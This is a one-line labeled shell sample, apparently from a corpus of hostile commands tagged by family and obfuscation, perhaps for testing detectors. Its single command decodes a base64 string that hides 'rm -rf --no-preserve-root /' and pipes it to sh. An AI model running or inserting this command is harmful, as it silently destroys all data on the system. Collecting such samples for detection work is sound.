# description: Decodes a base64 string that is rm -rf --no-preserve-root / and pipes it to sh.
# family: destruction
# obfuscated: yes
echo cm0gLXJmIC0tbm8tcHJlc2VydmUtcm9vdCAv | base64 -d | sh
